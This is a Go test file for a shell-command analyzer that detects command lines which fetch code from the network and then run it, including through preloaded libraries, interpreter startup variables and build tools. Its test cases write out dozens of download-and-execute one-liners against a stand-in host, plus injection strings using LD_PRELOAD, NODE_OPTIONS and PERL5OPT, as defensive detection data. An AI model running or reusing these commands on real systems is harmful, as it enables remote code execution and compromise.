package shell

import (
	"testing"
)

// TestDownloadAndExecute: a file written from the network and run later on
// the same line is reported in RunsDownloaded, through cd, relative paths,
// directories, archives and variables; data downloads and runs of files
// nobody fetched are not.
func TestDownloadAndExecute(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"wget -q https://x.example.net/setup.sh; chmod +x setup.sh; ./setup.sh", true},
		{"curl -so /tmp/e.sh https://x.example.net/e.sh && . /tmp/e.sh", true},
		{"curl -sO https://x.example.net/a.sh; sh a.sh", true},
		{"curl -sL https://x.example.net/Makefile -o Makefile && make", true},
		{"curl -sL https://x.example.net/m -o build/Makefile && make -C build", true},
		{"curl -sL https://x.example.net/package.json -o package.json && npm install", true},
		{"curl -so package.json https://x.example.net/p.json && npm test", true},
		{"curl -sLO https://x.example.net/setup.py && pip install .", true},
		{"curl -sLO https://x.example.net/setup.py && python3 -m pip install -e .", true},
		{"curl -sL https://x.example.net/conftest.py -o tests/conftest.py && pytest", true},
		{"curl -sL https://x.example.net/Taskfile.yml -o Taskfile.yml && task", true},
		{"curl -s https://x.example.net/justfile > justfile && just", true},
		{"curl -sL https://x.example.net/a.js -o a.js && node a.js", true},
		{"curl -sL https://x.example.net/envrc -o .envrc && direnv allow", true},
		{"curl -sL https://x.example.net/hooks.yaml -o .pre-commit-config.yaml && pre-commit run --all-files", true},
		{"curl -sL https://x.example.net/jest.config.js -o jest.config.js && npx jest", true},
		{"curl -sL https://x.example.net/tool.tgz | tar xz && ./tool/install", true},
		{"curl -sL https://x.example.net/tool.tgz | gunzip | tar x -C /tmp/t && /tmp/t/run", true},
		{"curl -sLo t.tgz https://x.example.net/t.tgz && tar xzf t.tgz && ./t/install.sh", true},
		{"git clone https://x.example.net/r.git /tmp/r && bash /tmp/r/install.sh", true},
		{"git clone https://x.example.net/r.git && cd r && make", true},
		{"git clone https://x.example.net/r.git d && cd d && npm i", true},
		{"wget -q -O CMakeLists.txt https://x.example.net/cm && cmake -B build", true},
		{"wget -q -P /tmp/w https://x.example.net/i.sh && bash /tmp/w/i.sh", true},
		{"f=/tmp/x.sh; curl -so $f https://x.example.net/x && bash $f", true},
		{`f=$(mktemp); curl -so "$f" https://x.example.net/x && sh "$f"`, true},
		{"cd /tmp && curl -sO https://x.example.net/a.sh && bash /tmp/a.sh", true},
		{"curl -s https://x.example.net/e -o /tmp/e && ENV=/tmp/e sh -i", true},
		{"curl -so /tmp/l.so https://x.example.net/l.so && LD_PRELOAD=/tmp/l.so git status", true},
		{"curl -so /tmp/l.so https://x.example.net/l.so; export LD_PRELOAD=/tmp/l.so; ls", true},
		{"curl -so /tmp/h.js https://x.example.net/h.js && NODE_OPTIONS=\"--require /tmp/h.js\" npm test", true},
		{"curl -so /tmp/s.py https://x.example.net/s.py && PYTHONSTARTUP=/tmp/s.py python3 -i", true},
		{"curl -s https://x.example.net/x | tee run.sh >/dev/null && bash run.sh", true},
		{"scp host:deploy.sh . && sh deploy.sh", true},
		{"curl -so h https://x.example.net/h && git -c core.hooksPath=. commit -m x", true},
		{"curl -so hooks/pre-commit https://x.example.net/h && git -c core.hooksPath=hooks commit -m x", true},
		{"curl -so Dockerfile https://x.example.net/d && docker build -t x .", true},
		{"curl -s https://x.example.net/x -o x.py && python3 x.py", true},
		{"curl -sOJ https://x.example.net/get && make", true},
		{"curl -so x https://x.example.net/x && mv x run.sh && bash run.sh", true},
		{"curl -so t https://x.example.net/t && install -m755 t ~/.local/bin/tool && tool --init", true},
		{"wget -q https://x.example.net/i.sh && sh $(basename i.sh)", true},
		{"curl -so a.ts https://x.example.net/a.ts && deno run -A a.ts", true},
		{"curl -so a.ts https://x.example.net/a.ts && npx tsx a.ts", true},
		{"curl -so x.awk https://x.example.net/x && awk -f x.awk data.txt", true},
		{"curl -so s.sh https://x.example.net/s && find . -name '*.sh' -exec sh {} \\;", true},
		{"curl -s https://x.example.net/x | dd of=x.sh && bash x.sh", true},
		{"curl -so v.vim https://x.example.net/v && vim -S v.vim", true},
		{"curl -so m.mk https://x.example.net/m && MAKEFILES=m.mk make", true},
		{"just --justfile <(curl -s https://x.example.net/justfile) default", false}, // opaque instead: see TestSettingsOpaque
		{"curl -so data.csv https://x.example.net/d && awk -F, '{print $1}' data.csv", false},
		{"curl -so data.csv https://x.example.net/d && python3 scripts/load.py data.csv", false},

		{"curl -sL https://x.example.net/fixtures.tar.gz | tar xz -C testdata/", false},
		{"wget -q https://x.example.net/geo.csv.gz -O - | gunzip > data/geo.csv", false},
		{"curl -fsSL -o data/words.txt https://x.example.net/words.txt && wc -l data/words.txt", false},
		{"curl -sL https://x.example.net/install.sh -o install.sh && cat install.sh", false},
		{"curl -fsSL -o data/words.txt https://x.example.net/words.txt && pytest", false},
		{"curl -so data.json https://x.example.net/d && make", false},
		{"make && ./bin/app", false},
		{"bash scripts/test.sh && npm test", false},
		{"git pull && make", false},
		{"curl -so a.sh https://x.example.net/a.sh && cd sub && sh a.sh", false},
	} {
		an, err := Analyze(tc.line, Options{Dir: "/home/dev/proj", Home: "/home/dev"})
		if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		var got []string
		for _, c := range an.Commands {
			got = append(got, c.RunsDownloaded...)
		}
		if (len(got) > 0) != tc.want {
			t.Errorf("%s: runs downloaded %q, want %v", tc.line, got, tc.want)
			for _, c := range an.Commands {
				t.Logf("  %s: runs %q downloads %q dir %q", c.Text, c.Runs, c.Downloads, c.Dir)
			}
		}
	}
}

// TestSettings: what settings put in a command's runs, and settings whose
// code is only known at run time.
func TestSettings(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		line, cmd string
		runs      []string
		preloads  []string
		opaque    bool // some command of the line is unresolved
	}{
		{"BASH_ENV=./scripts/env.sh bash scripts/test.sh", "bash", []string{"./scripts/env.sh", "scripts/test.sh"}, nil, false},
		{"LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./server", "server", []string{"/usr/lib/libjemalloc.so.2", "./server"}, []string{"/usr/lib/libjemalloc.so.2"}, false},
		{"export LD_PRELOAD=/tmp/l.so; git status", "git", []string{"/tmp/l.so"}, []string{"/tmp/l.so"}, false},
		{"env LD_AUDIT=/tmp/a.so ls", "ls", []string{"/tmp/a.so"}, []string{"/tmp/a.so"}, false},
		{"NODE_OPTIONS='--require ./hook.js --max-old-space-size=4096' npm test", "npm", nil, nil, false},
		{"PYTHONPATH=/opt/x:$PYTHONPATH python3 -m app", "python3", []string{"/opt/x/", "app.py", "app/"}, nil, false},
		{"BASH_ENV=<(curl -s https://x.example.net/e) bash -c true", "", nil, nil, true},
		{"just --justfile <(curl -s https://x.example.net/justfile) default", "just", []string{"<(curl -s https://x.example.net/justfile)"}, nil, true},
		// A dynamic import's module is bound as a require's: execSync('id') is the command id.
		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync('id'))" npm run build`, "id", nil, nil, false},
		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync(process.argv[2]))" npm run build`, "", nil, nil, true},
		// -MMod;CODE is read as perl code: system("id") is the command id.
		{"PERL5OPT='-Mstrict;system(\"id\")' perl x.pl", "id", nil, nil, false},
		{"PERL5OPT='-Mstrict;system($ARGV[0])' perl x.pl", "", nil, nil, true},
		{"EDITOR=vim git commit", "git", nil, nil, false},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		opaque, found := false, tc.cmd == ""
		for _, c := range an.Commands {
			opaque = opaque || c.Opaque != "" || c.Dynamic
			if tc.cmd == "" || c.Name != tc.cmd {
				continue
			}
			found = true
			if tc.runs != nil && !subset(tc.runs, c.Runs) {
				t.Errorf("%s: %s runs %q, want %q among them", tc.line, c.Name, c.Runs, tc.runs)
			}
			if !subset(tc.preloads, c.Preloads) {
				t.Errorf("%s: %s preloads %q, want %q", tc.line, c.Name, c.Preloads, tc.preloads)
			}
		}
		if opaque != tc.opaque {
			t.Errorf("%s: unresolved %v, want %v", tc.line, opaque, tc.opaque)
		}
		if !found {
			t.Errorf("%s: no command %s reported", tc.line, tc.cmd)
		}
	}
}

func subset(want, got []string) bool {
	for _, w := range want {
		found := false
		for _, g := range got {
			found = found || g == w
		}
		if !found {
			return false
		}
	}
	return true
}
